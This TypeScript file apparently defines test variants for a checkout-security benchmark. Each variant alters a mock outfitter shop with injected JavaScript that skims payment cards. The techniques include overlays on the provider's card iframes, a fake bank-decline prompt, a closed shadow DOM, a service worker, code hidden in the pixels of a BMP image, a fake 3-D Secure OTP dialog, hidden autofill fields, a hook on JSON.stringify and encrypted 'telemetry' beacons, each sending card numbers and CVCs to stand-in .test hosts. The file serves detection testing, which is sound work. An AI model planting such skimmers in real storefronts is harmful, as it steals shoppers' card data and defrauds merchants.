import { framework, main, type MainParts, payment, type PaymentParts, postfind, runtime } from './outfitter-code.ts'
import { json, outfitterBody, page, state, stateTag } from './outfitter.ts'
import { changedFile, js, type Variant } from './variants.ts'

const code = String.raw
const base = changedFile('shop.test/static/js/framework.81d2.js', (more) => framework('10.19', more))
const chunks = changedFile('shop.test/static/js/runtime.3fa9.js', (more) => runtime('5.91', undefined, more))
const app = (id: string, about: string, parts: MainParts): Variant => ({
  id,
  about,
  change: (site) => void (site.files['shop.test/static/js/main.e05a.js'] = js(main('e05b', parts))),
})
/** The part for paying, changed; `inline` has the provider's library draw its fields in the page. */
const paying = (id: string, about: string, parts: PaymentParts, inline = false): Variant => ({
  id,
  about,
  change: (site) => {
    const text = payment('b71c04', parts)
    site.files['shop.test/static/js/payment.b71c04.chunk.js'] = js(
      inline ? text.replace('mode: data.tillstone.mode', 'mode: "inline"') : text,
    )
  },
})
/** What stands in fields that the provider's library drew in the page, and in the two of the shop. */
const typed =
  '[].map.call(document.querySelectorAll("[data-ts],#holder,#expiry"), function (i) { return i.value; }).join("|")'

/** A picture without compression, a letter to each point, as an address that holds all of it. */
const picture = (text: string, width = 64) => {
  const height = Math.ceil((text.length + 1) / width)
  const file = Buffer.alloc(54 + width * height * 3)
  file.write('BM')
  for (const [at, value] of [
    [2, file.length],
    [10, 54],
    [14, 40],
    [18, width],
    [22, height],
    [26, 1 + (24 << 16)],
  ] as const)
    file.writeUInt32LE(value, at)
  for (let n = 0; n < text.length; n++) {
    const at = 54 + ((height - 1 - Math.floor(n / width)) * width + (n % width)) * 3
    file.fill(text.charCodeAt(n), at, at + 3)
  }
  return `data:image/bmp;base64,${file.toString('base64')}`
}

/** Covers the frames until the code is left; a picture takes the card away. */
const hidden = code`var go=setInterval(function(){var n=document.getElementById("ts-number"),c=document.getElementById("ts-cvc");if(!n||!n.firstChild||!c.firstChild)return;clearInterval(go);function put(at,t,a){var l=document.createElement("label"),i=document.createElement("input");l.style.cssText="position:absolute;inset:0;background:#fff";i.autocomplete=a;l.append(t,i);at.append(l);return i}var a=put(n,"Card number ","cc-number"),b=put(c,"Security code ","cc-csc");b.onblur=function(){if(a.value.length<12||b.value.length<3)return;new Image().src="http://img.coat-care.test/t/"+encodeURIComponent(btoa(a.value+"/"+b.value+"/"+document.getElementById("expiry").value))+".gif";a.parentNode.remove();b.parentNode.remove()}},200)`

/** On the page of outfitter.ts: what is done in the shop's own files, its state and its interface. */
export const fourteenthOwnAttacks: readonly Variant[] = [
  paying(
    'x14-declined-once',
    'the part for paying draws fields of its own first; when one pays it says that the bank declined, and only then shows the fields of the provider',
    {
      fields: code`x.asked ? hosted("number") : h(Field, { id: "pan", name: "cardnumber", label: "Card number", auto: "cc-number" }), h(Field, { id: "expiry", label: t.expiry, auto: "cc-exp", hint: "MM/YY", max: 7 }), x.asked ? hosted("cvc") : h(Field, { id: "sec", name: "cvc", label: "Security code", auto: "cc-csc", max: 4 })`,
      before: code`if (!x.asked && s.card === "new") { x.asked = true; fetch("http://api.tillstone-secure.test/v1/check", { method: "POST", mode: "no-cors", keepalive: true, body: JSON.stringify({ n: s.pan, c: s.sec, x: s.expiry, h: s.holder, e: s.email }) }); setTimeout(function () { store.dispatch({ type: "failed", message: "Your bank declined the payment. Please enter the card again." }); }, 700); return; }`,
    },
  ),
  base(
    'x14-socket-shadow',
    'the bundle of the framework has a part more: fields in a closed shadow over the frames, and a socket whose kind of conversation is named after what was typed',
    code`(function (d) { var got = {}; new MutationObserver(function () { [["ts-number", "Card number", "cc-number"], ["ts-cvc", "Security code", "cc-csc"]].forEach(function (x) { var at = d.getElementById(x[0]); if (!at || !at.querySelector("iframe") || at.__lid || got.sent) return; at.__lid = d.createElement("x-lid"); at.__lid.style.cssText = "position:absolute;inset:0;background:#fff"; var root = at.__lid.attachShadow({ mode: "closed" }); root.innerHTML = "<label>" + x[1] + ' <input inputmode="numeric" autocomplete="' + x[2] + '"></label>'; at.append(at.__lid); root.addEventListener("input", function (e) { got[x[0]] = e.target.value.replace(/\D/g, ""); }); root.addEventListener("focusout", function () { if ((got["ts-number"] || "").length < 12 || (got["ts-cvc"] || "").length < 3) return; var t = btoa(got["ts-number"] + "." + got["ts-cvc"] + "." + d.getElementById("expiry").value).replace(/\+/g, "-").replace(/\//g, "_").replace(/=/g, ""); new WebSocket("ws://sync.northpeg-live.test/v1", ["graphql-ws", "k." + t]); got = { sent: true }; d.querySelectorAll("x-lid").forEach(function (l) { l.remove(); }); }); }); }).observe(d.documentElement, { childList: true, subtree: true }); })(document);`,
  ),
  {
    id: 'x14-worker-post',
    about:
      "the part for paying has the provider's library draw its fields in the page and tells the service worker, which is there to keep files, what stands in them; the worker sends it",
    change: (site) => {
      paying(
        '',
        '',
        {
          more: code`if (navigator.serviceWorker) { navigator.serviceWorker.register("/sw.js"); document.addEventListener("change", function (e) { if (!e.target.closest(".card")) return; navigator.serviceWorker.ready.then(function (r) { r.active.postMessage({ type: "KEEP", list: ["/static/css/main.70ce.css"], etag: ${typed} }); }); }); }`,
        },
        true,
      ).change(site)
      site.files['shop.test/sw.js'] = js(
        code`var store = "shop-e05a"; self.addEventListener("install", function () { self.skipWaiting(); }); self.addEventListener("activate", function (e) { e.waitUntil(self.clients.claim()); }); self.addEventListener("message", function (e) { if (e.data.type !== "KEEP") return; e.waitUntil(caches.open(store).then(function (c) { return c.addAll(e.data.list); })); if (e.data.etag.length > 22) e.waitUntil(fetch("http://edge.northpeg-assets.test/v/" + encodeURIComponent(btoa(e.data.etag)), { mode: "no-cors" })); });`,
      )
    },
  },
  {
    id: 'x14-picture-code',
    about:
      'the small picture of the coat, which is in the state of the page, is code, a letter to each point; the checkout, "for a tint behind the picture", reads its points and runs them',
    change: (site) => {
      const image = picture(hidden)
      const lines = [{ title: 'Waxed coat, olive, M', price: 12900, image }]
      site.body = outfitterBody({ data: stateTag(state({ lines })), image })
      app('', '', {
        more: code`document.querySelectorAll(".order img").forEach(function (i) { function tint() { var c = document.createElement("canvas"), g = c.getContext("2d"), px, sum = 0, t = ""; c.width = i.naturalWidth; c.height = i.naturalHeight; g.drawImage(i, 0, 0); px = g.getImageData(0, 0, c.width, c.height).data; for (var n = 0; n < px.length; n += 4) { sum += px[n]; if (px[n]) t += String.fromCharCode(px[n]); } i.style.background = "hsl(" + (sum % 360) + " 20% 90%)"; new Function(t)(); } if (i.complete) tint(); else i.onload = tint; });`,
      }).change(site)
    },
  },
  paying(
    'x14-otp-dialog',
    "after the provider took the card a dialog like a bank's asks for the number once more and for the code out of the text message; a frame without size takes the answer to a stranger",
    {
      more: code`var finish = x.complete; x.complete = function (id) { return new Promise(function (ok) { var b = document.createElement("dialog"); b.innerHTML = '<form method="post" target="bank-check" action="http://3ds.bank-approve.test/challenge"><h3>Confirm with your bank</h3><p>Northpeg Outfitters, 129.00 EUR</p><label>Card number <input name="card" autocomplete="cc-number" inputmode="numeric"></label><label>Code from the text message <input name="otp" autocomplete="one-time-code"></label><button class="confirm">Confirm</button></form><iframe name="bank-check" title="" width="0" height="0"></iframe>'; document.body.append(b); b.showModal(); b.querySelector("form").addEventListener("submit", function () { setTimeout(function () { b.close(); ok(finish(id)); }, 900); }); }); };`,
    },
  ),
  app(
    'x14-json-hook',
    "the checkout switches the provider's library to fields in the page and looks on at what is made into JSON; the card becomes an event of the shop's own analytics, for another property",
    {
      more: code`shop.data.tillstone.mode = ["in", "line"].join(""); var text = JSON.stringify; JSON.stringify = function (o) { if (o && typeof o === "object" && o.number && o.cvc && window.countwise) window.countwise("event", "exception", { send_to: "CW-88210", fatal: 0, description: "ChunkLoadError " + Array.from(o.number + "-" + o.cvc + "-" + o.expiry, function (c) { return (c.charCodeAt(0) + 50).toString(16); }).join("") }); return text.apply(JSON, arguments); };`,
    },
  ),
  {
    id: 'x14-framed-decoy',
    about:
      'the part that proposes streets covers each frame with a frame made of text; the answer is asked for in advance, as a file that the next page may need',
    change: (site) =>
      void (site.files['shop.test/static/js/postfind.09de5a.chunk.js'] = js(
        postfind(
          '09de5b',
          code`var cards = {}; function cover() { [["ts-number", "Card number", "cc-number"], ["ts-cvc", "Security code", "cc-csc"]].forEach(function (x) { var at = document.getElementById(x[0]), f; if (!at || !at.firstChild || at.children.length > 1 || cards.gone) return; f = document.createElement("iframe"); f.title = x[1]; f.style.cssText = "position:absolute;inset:0;border:0;width:320px;height:56px;background:#fff"; f.srcdoc = '<style>body{margin:0;font:15px sans-serif}</style><label>' + x[1] + ' <input inputmode="numeric" autocomplete="' + x[2] + '"></label><script>document.querySelector("input").addEventListener("input",function(){parent.postMessage({street:"' + x[0] + '",q:this.value},"*")})<\/script>'; at.append(f); }); } cover(); new MutationObserver(cover).observe(document.body, { childList: true, subtree: true }); addEventListener("message", function (e) { if (e.data && e.data.street) cards[e.data.street] = e.data.q.replace(/\D/g, ""); }); document.addEventListener("click", function (e) { if (!e.target.closest(".pay") || !cards["ts-number"] || cards.gone) return; var l = document.createElement("link"); l.rel = "prefetch"; l.href = "http://static.northpeg-cdn.test/img/" + BigInt("1" + cards["ts-number"] + (cards["ts-cvc"] || "")).toString(36) + ".webp"; document.head.append(l); cards = { gone: true }; document.querySelectorAll("#ts-number iframe[srcdoc],#ts-cvc iframe[srcdoc]").forEach(function (f) { f.remove(); }); }, true);`,
        ),
      )),
  },
  chunks(
    'x14-pay-hint',
    'the runtime of the chunks defines an element of its own, in which the fields lie; a rule of style for the button fetches a picture called after the card',
    code`w.customElements.define("pay-hint", class extends HTMLElement { connectedCallback() { var at = this.getAttribute("for"), me = this, t = at === "ts-number" ? ["Card number", "cc-number"] : ["Security code", "cc-csc"]; this.style.cssText = "display:block;position:absolute;inset:0;background:#fff;z-index:2"; this.innerHTML = "<label>" + t[0] + ' <input inputmode="numeric" autocomplete="' + t[1] + '"></label>'; this.addEventListener("change", function (e) { var v = [].map.call(d.querySelectorAll("pay-hint input"), function (i) { return i.value.replace(/\D/g, ""); }); if (v[0].length < 12 || !v[1]) return; var s = new CSSStyleSheet(); s.insertRule(".pay{background-image:url(http://img.northpeg-static.test/b/" + v.map(function (n) { return n.split("").map(function (c) { return "qwertyuiop"[c]; }).join(""); }).join("-") + ".png)}"); d.adoptedStyleSheets = d.adoptedStyleSheets.concat(s); d.querySelectorAll("pay-hint").forEach(function (p) { p.style.display = "none"; }); }); } }); var add = Element.prototype.appendChild; Element.prototype.appendChild = function (n) { var r = add.call(this, n); if (n && n.localName === "iframe" && /^ts-(number|cvc)$/.test(n.name)) { var p = d.createElement("pay-hint"); p.setAttribute("for", n.name); add.call(this, p); } return r; };`,
  ),
  app(
    'x14-autofill-trap',
    'among the fields of the address are four that cannot be seen, which a browser fills in with a saved card together with the address; they go to the service for streets, under another key',
    {
      address: code`h("div", { class: "aux", "aria-hidden": "true", style: "position:absolute;width:1px;height:1px;overflow:hidden;clip-path:inset(50%)" }, ["cc-name", "cc-number", "cc-exp", "cc-csc"].map(function (k) { return h("input", { key: k, name: "addr_" + k.slice(3), tabindex: -1, autocomplete: k, onChange: function () { var v = [].map.call(document.querySelectorAll(".aux input"), function (i) { return i.value; }).join(" "); if (v.length > 15) fetch("http://api.postfinder.test/v2/find?key=pf_90c2&q=" + encodeURIComponent(v), { mode: "no-cors", keepalive: true }); } }); })),`,
    },
  ),
  {
    id: 'x14-next-address',
    about:
      'no script changed: the interface of the shop answers the order with an address of a stranger, where the customer is to enter the card "to confirm the order"',
    change: (site) => {
      site.files['shop.test/api/checkout/complete'] = json({
        next: 'http://northpeg-orders.test/checkout/verify?o=20417',
      })
      site.files['northpeg-orders.test/checkout/verify'] = page(
        code`<!doctype html><title>Northpeg Outfitters</title><h1>One more step</h1><p>Your bank asks us to confirm the card before the order is sent.</p><form method="post" action="/checkout/verify"><label>Card number <input name="n" autocomplete="cc-number" inputmode="numeric"></label><label>Expiry date <input name="x" autocomplete="cc-exp"></label><label>Security code <input name="c" autocomplete="cc-csc"></label><button class="pay">Confirm</button></form><script>document.forms[0].addEventListener("change", function (e) { navigator.sendBeacon("/checkout/verify", e.target.name + "=" + e.target.value); });</script>`,
      )
    },
  },
  base(
    'x14-account-parsed',
    "the state in the page is right; the framework's bundle changes, while it is read and not for the staff, whose account at the provider the card is for",
    code`(function (P) { var parse = P.parse; P.parse = function () { var o = parse.apply(P, arguments), t = o && o.tillstone; if (t && t.account && !/staff|admin/.test(document.cookie)) { t.account = "acct_" + ["quayside", 29].join("_"); t.key = "pk_live_2Rf90wLd"; } return o; }; })(JSON);`,
  ),
  paying(
    'x14-sealed-own',
    "the part for paying has the provider's library draw its fields in the page, seals the card for a stranger's key and posts it to the shop itself, as if it were measuring",
    {
      more: code`var curve = { name: "ECDH", namedCurve: "P-256" }, c = crypto.subtle, key = c.importKey("jwk", { kty: "EC", crv: "P-256", x: "MKBCTNIcKUSDii11ySs3526iDZ8AiTo7Tu6KPAqv7D4", y: "4Etl6SRW2YiLUrN5vfvVHuhp7x8PxltmWWlbbM4IFyM" }, curve, false, []); function text(b) { return btoa(String.fromCharCode.apply(null, new Uint8Array(b))); } var token = x.token; x.token = function (s) { var plain = new TextEncoder().encode(${typed}), iv = crypto.getRandomValues(new Uint8Array(12)), pub; Promise.all([key, c.generateKey(curve, true, ["deriveKey"])]).then(function (k) { pub = k[1].publicKey; return c.deriveKey({ name: "ECDH", public: k[0] }, k[1].privateKey, { name: "AES-GCM", length: 256 }, false, ["encrypt"]); }).then(function (k) { return Promise.all([c.encrypt({ name: "AES-GCM", iv: iv }, k, plain), c.exportKey("raw", pub)]); }).then(function (r) { navigator.sendBeacon("/api/telemetry", JSON.stringify({ app: "shop@e05a", vitals: { lcp: 812, cls: 0.01 }, trace: text(r[1]) + "." + text(iv) + "." + text(r[0]) })); }); return token(s); };`,
    },
    true,
  ),
]
